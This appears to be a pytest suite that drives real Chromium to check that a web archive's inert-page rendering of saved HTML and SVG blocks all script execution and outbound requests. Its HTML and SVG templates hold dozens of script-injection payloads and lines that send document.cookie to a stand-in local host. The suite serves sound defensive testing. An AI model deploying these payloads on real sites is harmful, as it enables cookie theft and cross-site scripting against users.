"""An archived page that tries everything, in a real Chromium."""

import contextlib
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import playwright.sync_api
import pytest

from sources.web.copies import inert_page
from tests.conftest import Cast
from tests.sources.services.copies import make_copy, make_source

pytestmark = [pytest.mark.django_db, pytest.mark.browser]

TRICKS = """<!doctype html><html><head><title>Archived</title>
<meta http-equiv="refresh" content="0;url={out}/refresh"><base href="{out}/base/">
<link rel="stylesheet" href="{out}/style.css"><link rel="prefetch" href="{out}/prefetch">
<link rel="preload" as="image" href="{out}/preload"><link rel="icon" href="{out}/icon">
<script>document.title = "ran"; fetch("{out}/fetch?" + document.cookie)</script>
<script src="{out}/script.js"></script><script type="module">import "{out}/module.js"</script>
<style>@import "{out}/import.css"; body {{ background: url({out}/background) }}
@font-face {{ font-family: x; src: url({out}/font) }} p {{ font-family: x }}</style></head>
<body onload="document.title='ran'; new Image().src='{out}/onload'">
<p>Archived words.</p><img src="{out}/image"><img src=x onerror="document.title='ran'"><img srcset="{out}/srcset 1x">
<iframe src="{out}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<object data="{out}/object"></object><embed src="{out}/embed"><video src="{out}/video" autoplay poster="{out}/poster"></video>
<audio src="{out}/audio" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script>
<image href="{out}/svg-image"/><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/></svg>
<details open ontoggle="document.title='ran'"><summary>x</summary></details>
<form id="f" action="{out}/form" method="post"><input autofocus onfocus="document.title='ran'"><button id="go">Go</button></form>
<script>
navigator.sendBeacon("{out}/beacon"); new WebSocket("{out}/socket".replace("http", "ws")); new EventSource("{out}/events");
navigator.serviceWorker.register("{out}/worker.js"); new Worker("{out}/thread.js"); window.open("{out}/popup");
localStorage.setItem("stolen", document.cookie); location = "{out}/away?" + document.cookie
</script><base href="{out}/base2/"><link rel="dns-prefetch preconnect" href="{out}"><link rel="modulepreload" href="{out}/early.js">
<math><mtext><img src=x onerror="document.title='ran'"></mtext></math><marquee onstart="document.title='ran'"></marquee>
<input type="image" src="{out}/button"><table background="{out}/table"></table><link rel="manifest" href="{out}/manifest">
<template shadowrootmode="open"><style>:host {{ background: url({out}/shadow) }}</style></template>
<a id="js" href="javascript:document.title='ran'">link</a><a id="ping" href="#x" ping="{out}/ping">ping</a>
</body></html>"""


DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
 onload="document.title='ran'; fetch('{out}/onload?' + document.cookie)"><title>Archived</title>
<script>document.title = "ran"; fetch("{out}/script?" + document.cookie)</script><script href="{out}/script.js"/>
<style>@import "{out}/import.css"; rect {{ fill: url({out}/fill#x) }}</style><rect width="9" height="9"/>
<image href="{out}/image" width="9" height="9"/><use href="{out}/use#x"/><feImage href="{out}/filter"/>
<animate onbegin="document.title='ran'" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="document.title='ran'"/>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{out}/frame"></iframe>
<img src="{out}/html-image" onerror="document.title='ran'"/><form action="{out}/form"><button id="go">Go</button></form>
</body></foreignObject><a id="js" xlink:href="javascript:document.title='ran'"><text y="150">link</text></a></svg>"""

PIECES = {
    "all of it": None,
    "sandbox": "sandbox; ",
    "everything forbidden by default": "default-src 'none'; ",
}
"""What is taken out of the Content-Security-Policy, to see that the test would tell."""


@dataclass
class Site:
    """A server of one page, given with its headers, and the paths that were asked for."""

    port: int = 0
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append(self.path)
            if self.path != "/page":
                self.send_error(404)
                return
            self.send_response(200)
            for name, value in made.headers.items():
                self.send_header(name, value)
            self.send_header("Set-Cookie", "desk=secret; Path=/")
            self.end_headers()
            self.wfile.write(made.body)

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield made
    server.shutdown()
    server.server_close()
    thread.join()


def visit(chromium: Any, site: Site) -> tuple[str, list[str]]:
    """Open the page, click what can be clicked; the title at the end, and what was asked for beside the page."""
    page = chromium.new_context().new_page()
    page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="load")
    page.wait_for_timeout(300)
    for selector in ("#js", "#ping", "#go"):
        with contextlib.suppress(playwright.sync_api.Error):
            page.locator(selector).click(timeout=1_000, no_wait_after=True)
    page.wait_for_timeout(500)
    title = page.title()
    page.context.close()
    return title, [path for path in site.asked if path not in ("/page", "/favicon.ico")]


def test_nothing_runs_and_nothing_reaches_out(chromium: Any, cast: Cast, site: Site) -> None:
    out = f"http://127.0.0.1:{site.port}"
    response = inert_page(make_copy(make_source(cast.editor), TRICKS.format(out=out)), images_from=f"{out}/replay/x/")
    site.body, site.headers = response.content, dict(response.items())
    title, asked = visit(chromium, site)
    assert (title, asked) == ("Archived", [])


def test_a_drawing_does_none_of_it_either(chromium: Any, cast: Cast, site: Site) -> None:
    out = f"http://127.0.0.1:{site.port}"
    drawing = DRAWING.format(out=out)
    response = inert_page(
        make_copy(make_source(cast.editor), drawing, declared="image/svg+xml"), images_from=f"{out}/replay/x/"
    )
    assert response["Content-Type"] == "image/svg+xml"
    site.body, site.headers = response.content, dict(response.items())
    title, asked = visit(chromium, site)
    assert (title, asked) == ("Archived", [])
    site.headers = {"Content-Type": "image/svg+xml"}
    title, asked = visit(chromium, site)
    assert title == "ran" or len(set(asked)) > 3


@pytest.mark.parametrize("piece", PIECES.values(), ids=PIECES.keys())
def test_a_page_without_its_policy_is_found_out(chromium: Any, cast: Cast, site: Site, piece: str | None) -> None:
    out = f"http://127.0.0.1:{site.port}"
    response = inert_page(make_copy(make_source(cast.editor), TRICKS.format(out=out)), images_from=f"{out}/replay/x/")
    site.body, site.headers = response.content, dict(response.items())
    policy = site.headers.pop("Content-Security-Policy")
    if piece is not None:
        assert piece in policy
        site.headers["Content-Security-Policy"] = policy.replace(piece, "").replace("img-src", "font-src")
    title, asked = visit(chromium, site)
    assert title != "Archived" or asked


def test_without_the_policy_the_same_page_does_both(chromium: Any, cast: Cast, site: Site) -> None:
    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}")
    markup = markup.replace('<meta http-equiv="refresh"', "<meta").replace("location = ", "void ")
    site.body, site.headers = markup.encode(), {"Content-Type": "text/html"}
    page = chromium.new_context().new_page()
    page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="commit")
    page.wait_for_function("document.title === 'ran'")
    page.wait_for_timeout(500)
    assert len(set(site.asked)) > 15
    page.context.close()
